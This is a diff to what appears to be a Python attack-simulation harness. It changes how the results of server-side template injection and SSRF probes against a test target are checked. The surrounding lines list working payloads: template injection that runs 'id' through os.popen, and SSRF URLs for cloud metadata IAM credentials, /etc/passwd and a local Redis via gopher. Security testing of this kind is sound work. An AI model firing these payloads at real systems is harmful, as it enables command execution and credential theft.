@@ -110,7 +110,7 @@ def templates(attacker, target):
         text, wanted = rng.choice((
             (f"{{{{{a}*{b}}}}}", str(a * b)), (f"${{{a}*{b}}}", str(a * b)),
             ("{{config.items()}}", target.secrets["command"]),
-            ("{{''.__class__.__mro__[1].__subclasses__()}}", "\0"),
+            ("{{''.__class__.__mro__[1].__subclasses__()}}", target.secrets["command"]),
             ("{{cycler.__init__.__globals__.os.popen('id').read()}}", target.secrets["command"])))
         attacker.attack("ssti", f"{page.path} name", f"{page.path}?name={quoted(text)}",
                         check=lambda reply, wanted=wanted: wanted in reply.body)
@@ -123,7 +123,8 @@ def other_servers(attacker, target):
                             "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[::1]/admin",
                             "http://0x7f000001/status", "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO"))
         attacker.attack("ssrf", f"{page.path} url", f"{page.path}?url={quoted(where)}",
-                        check=lambda reply: target.secrets["inner"] in reply.body)
+                        check=lambda reply: target.secrets["inner"] in reply.body,
+                        ran=lambda reply: reply.truth.get("called", 0) > 0)
 
 
 def uploads(attacker, target):
